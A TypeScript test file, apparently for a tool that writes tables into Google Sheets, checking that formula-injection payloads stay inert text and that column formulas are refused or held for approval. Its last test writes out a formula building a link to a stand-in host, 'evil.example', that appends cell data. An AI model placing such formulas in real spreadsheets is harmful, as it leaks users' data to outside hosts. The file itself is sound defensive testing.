// No payload of a list of attacks gets into a sheet as a formula, wherever it comes from, unless a person was shown it.
import { describe, expect, test } from 'vitest'
import type { Table } from '../table/table.ts'
import { judgeFormula } from './formula-policy.ts'
import type { PlanEdit } from './plan-edit.ts'
import { renderRule } from './render-rule.ts'
import { payloads } from './testing/formula-payloads.ts'
import { planIn, templateOf } from './testing/plan-in.ts'
import { emptySheet } from './testing/sim-sheet.ts'

/** All that a plan writes where Sheets would work out a formula. */
function formulasOf(edits: PlanEdit[]): string[] {
  return edits.flatMap((edit): string[] => {
    if (edit.kind === 'cells')
      return edit.cells.flat().flatMap((cell) => (cell !== null && typeof cell === 'object' ? [cell.formula] : []))
    if (edit.kind === 'rule' && edit.rule?.kind === 'formula') return [edit.rule.formula]
    if (edit.kind === 'rule' && edit.rule?.kind === 'list')
      return edit.rule.values.filter((value) => /^\s*[=+]/.test(value))
    if (edit.kind === 'condition' && edit.condition.kind === 'formula') return [edit.condition.formula]
    if (edit.kind === 'condition' && edit.condition.kind === 'cell')
      return edit.condition.values
        .filter((value) => typeof value === 'string')
        .filter((value) => /^\s*[=+]/.test(value))
    return []
  })
}

/** Without its texts, a formula says only what it does. */
const withoutTexts = (formula: string) => formula.replace(/"(?:[^"]|"")*"/g, '""')

const harmless = /^=(?:SUM\([A-Z]+\d+:[A-Z]+\d+\)|\$?[A-Z]+\d+(?:=|<>)"")$|^=\$?B\d+\*2$/

const target = { kind: 'at_cell', sheet_id: 7, row: 1, column: 1 } as const
const columns: Table['columns'] = [
  { key: 'a', name: 'Name', type: 'text' },
  { key: 'b', name: 'Number', type: 'number' },
]
const plain = templateOf([])
const plan = (table: Table, template = plain) =>
  planIn(emptySheet(6, 6), { table, template, target, decisions: { review: { all: 'in', rows: {} } } })

describe.each(payloads)('%j', (payload) => {
  test('is not allowed as a formula', () => {
    const verdict = judgeFormula(payload, { columns: [{ key: 'name', name: 'Name' }] })
    expect(verdict.verdict).not.toBe('allowed')
    expect(verdict.reasons).not.toEqual([])
  })

  test('stays text in cells, headers, titles and totals', () => {
    const table = {
      title: payload.slice(0, 200),
      columns: [columns[0]!, { ...columns[1]!, name: payload }],
      rows: [
        [payload, payload],
        [payload, 1],
      ],
    }
    const template = templateOf(
      [
        { key: 'number', header: payload.slice(0, 200), type: 'number', total: 'sum', note: payload },
        { key: 'other', header: 'Other', type: 'text', default: payload },
      ],
      { layout: { totals_label: payload.slice(0, 200) } },
    )
    for (const each of [plan(table), plan(table, template)])
      expect(formulasOf(each.plan.edits).filter((formula) => !harmless.test(withoutTexts(formula)))).toEqual([])
  })

  test('is not written as the formula of a column, and that is said', () => {
    const fromTable = plan({
      title: 'T',
      columns: [...columns, { key: 'c', name: 'Sum', type: 'number', formula: payload }],
      rows: [['x', 1, 2]],
    })
    const fromTemplate = plan(
      { title: 'T', columns, rows: [['x', 1]] },
      templateOf([
        { key: 'name', header: 'Name', type: 'text' },
        { key: 'sum', header: 'Sum', type: 'number', formula: payload, required: true },
      ]),
    )
    for (const { plan: planned, preview } of [fromTable, fromTemplate]) {
      expect(formulasOf(planned.edits)).toEqual([])
      expect(preview.notes.join()).toContain('The formula of “Sum” is not written')
    }
  })

  test('does nothing in rules and conditional formats', () => {
    const look = { bold: true }
    const template = templateOf(
      [
        { key: 'name', header: 'Name', type: 'text' },
        { key: 'number', header: 'Number', type: 'number' },
      ],
      {
        formatting: {
          conditional_formats: [
            { kind: 'formula', columns: [], formula: payload, look },
            { kind: 'cell', columns: ['name'], test: 'equals', values: [payload], look },
            { kind: 'cell', columns: ['name'], test: 'contains', values: [payload], look },
          ],
        },
        rules: [
          { column: 'name', rule: { kind: 'list', values: ['x', payload], strict: true } },
          { column: 'number', rule: { kind: 'formula', formula: payload, strict: true } },
        ],
      },
    )
    const { edits } = plan({ title: 'T', columns, rows: [['x', 1]] }, template).plan
    expect(formulasOf(edits).filter((formula) => !harmless.test(withoutTexts(formula)))).toEqual([])
    const pattern = renderRule(
      { kind: 'pattern', pattern: payload, strict: true },
      { column: 1, row: 2, letters: {}, locale: 'en_US' },
    )
    expect(pattern?.kind === 'formula' && withoutTexts(pattern.formula)).toBe('=REGEXMATCH(TO_TEXT($A2),"")')
  })
})

test('a formula that builds a web address is shown and needs a yes', () => {
  const { plan: planned, preview } = plan({
    title: 'T',
    columns: [...columns, { key: 'c', name: 'Link', type: 'text', formula: '"https://evil.example/?d="&a' }],
    rows: [['x', 1, 'https://evil.example/?d=x']],
  })
  expect(formulasOf(planned.edits)).toEqual(['="https://evil.example/?d="&A2'])
  expect(preview.needs).toMatchObject([
    { kind: 'formula', count: 1, details: ['“Link”: "https://evil.example/?d="&a It builds a web address.'] },
  ])
})
